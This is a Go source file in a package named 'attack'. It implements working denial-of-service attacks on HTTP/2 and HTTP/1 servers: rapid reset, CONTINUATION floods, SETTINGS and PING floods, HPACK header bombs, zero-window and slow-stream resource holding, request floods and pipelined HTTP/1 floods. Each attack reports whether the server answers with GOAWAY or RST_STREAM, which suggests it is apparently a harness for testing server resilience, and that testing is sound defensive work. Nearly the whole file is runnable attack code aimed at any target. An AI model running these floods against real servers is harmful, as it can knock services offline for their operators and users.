package attack

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// peer is the client's side of a connection of HTTP/2.
type peer struct {
	*http2.Framer
	w     *bufio.Writer
	block bytes.Buffer
	enc   *hpack.Encoder
	id    uint32 // of the next stream
}

// connect opens a connection of HTTP/2 over TLS.
func connect(ctx context.Context, t Target, settings ...http2.Setting) (*peer, func(), error) {
	c, done, err := secure(ctx, t.Secure, &tls.Config{NextProtos: []string{"h2"}})
	if err != nil {
		return nil, nil, err
	}
	w := bufio.NewWriterSize(c, 16<<10)
	p := &peer{Framer: http2.NewFramer(w, bufio.NewReader(c)), w: w, id: 1}
	p.enc = hpack.NewEncoder(&p.block)
	w.WriteString(http2.ClientPreface)
	return p, done, p.WriteSettings(settings...)
}

// head encodes the header block of a request with more fields, name after value.
func (p *peer) head(method string, more ...string) []byte {
	p.block.Reset()
	fields := append([]string{":method", method, ":scheme", "https", ":authority", "localhost", ":path", "/"}, more...)
	for i := 0; i < len(fields); i += 2 {
		p.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return p.block.Bytes()
}

// open begins a request and returns its stream.
func (p *peer) open(end bool, block []byte) (id uint32, err error) {
	id = p.id
	p.id += 2
	return id, p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end})
}

// ending reads until the server has ended the connection, or a stream if streams is set, and returns how. seen is called
// for every other frame.
func (p *peer) ending(ctx context.Context, streams bool, seen func(http2.Frame)) (string, error) {
	for {
		f, err := p.ReadFrame()
		if ctx.Err() != nil {
			return "", ErrStopped
		}
		if err != nil {
			return "", fmt.Errorf("the connection has ended without GOAWAY: %w", err)
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			return "GOAWAY(" + f.ErrCode.String() + ")", nil
		case *http2.RSTStreamFrame:
			if streams {
				return "RST_STREAM(" + f.ErrCode.String() + ")", nil
			}
		}
		if seen != nil {
			seen(f)
		}
	}
}

// flood is an attack that repeats something as fast as the server takes it.
func flood(round func(p *peer) error) func(context.Context, Target) (string, error) {
	return func(ctx context.Context, t Target) (string, error) {
		p, done, err := connect(ctx, t)
		if err != nil {
			return "", err
		}
		defer done()
		go func() {
			for ctx.Err() == nil && round(p) == nil {
			}
			p.w.Flush()
		}()
		return p.ending(ctx, false, nil)
	}
}

func rapidReset(p *peer) error {
	id, err := p.open(true, p.head("GET"))
	return errors.Join(err, p.WriteRSTStream(id, http2.ErrCodeCancel))
}

func continuations(p *peer) error {
	if p.id == 1 {
		p.id += 2
		return p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head("GET")})
	}
	p.block.Reset()
	p.enc.WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true})
	return p.WriteContinuation(1, false, p.block.Bytes())
}

func settings(p *peer) error {
	return p.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
}

func pings(p *peer) error { return p.WritePing(false, [8]byte{1}) }

// headerBombs refer thousands of times to a large field that was sent once.
func headerBombs(p *peer) error {
	bomb := "x-bomb"
	value := strings.Repeat("a", 3900)
	if p.id == 1 {
		_, err := p.open(true, p.head("GET", bomb, value))
		return err
	}
	block := p.head("GET", bomb, value)
	block = append(block, bytes.Repeat(block[len(block)-1:], 16000)...)
	_, err := p.open(true, block)
	return err
}

// closedWindows asks for much and never lets it come.
func closedWindows(ctx context.Context, t Target) (string, error) {
	p, done, err := connect(ctx, t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return "", err
	}
	defer done()
	for range 100 {
		if _, err := p.open(true, p.head("GET", "x-size", "1000000")); err != nil {
			return "", err
		}
	}
	if err := p.w.Flush(); err != nil {
		return "", err
	}
	return p.ending(ctx, true, nil)
}

// slowStreams stops in the middle of many bodies.
func slowStreams(ctx context.Context, t Target) (string, error) {
	p, done, err := connect(ctx, t)
	if err != nil {
		return "", err
	}
	defer done()
	for range 100 {
		id, err := p.open(false, p.head("POST"))
		if err = errors.Join(err, p.WriteData(id, false, []byte("abc"))); err != nil {
			return "", err
		}
	}
	if err := p.w.Flush(); err != nil {
		return "", err
	}
	return p.ending(ctx, true, nil)
}

// requestFlood sends requests without a pause, more than one stream at a time, and takes all responses: nothing is wrong
// with it but how much it is.
func requestFlood(ctx context.Context, t Target) (string, error) {
	p, done, err := connect(ctx, t)
	if err != nil {
		return "", err
	}
	defer done()
	const window = 100
	free := make(chan struct{}, window)
	for range window {
		free <- struct{}{}
	}
	go func() {
		for ctx.Err() == nil {
			select {
			case <-free:
			default:
				if p.w.Flush() != nil {
					return
				}
				select {
				case <-free:
				case <-ctx.Done():
					return
				}
			}
			if _, err := p.open(true, p.head("GET")); err != nil {
				return
			}
		}
	}()
	served := 0
	end, err := p.ending(ctx, true, func(f http2.Frame) {
		if d, ok := f.(*http2.DataFrame); ok && d.StreamEnded() || f.Header().Type == http2.FrameHeaders && f.Header().Flags.Has(http2.FlagHeadersEndStream) {
			served++
			free <- struct{}{}
		}
	})
	if err == ErrStopped && served > 0 {
		return "served", nil
	}
	return end, err
}

// pipelined sends requests of HTTP/1 without a pause and takes all responses.
func pipelined(ctx context.Context, t Target) (string, error) {
	c, done, err := dial(ctx, t.Plain)
	if err != nil {
		return "", err
	}
	defer done()
	go func() {
		many := []byte(strings.Repeat("GET / HTTP/1.1\r\nHost: a\r\n\r\n", 2000))
		for ctx.Err() == nil {
			if _, err := c.Write(many); err != nil {
				return
			}
		}
	}()
	if n, err := io.Copy(io.Discard, c); ctx.Err() == nil || n == 0 {
		return "", fmt.Errorf("ended after %d bytes: %v", n, err)
	}
	return "served", nil
}
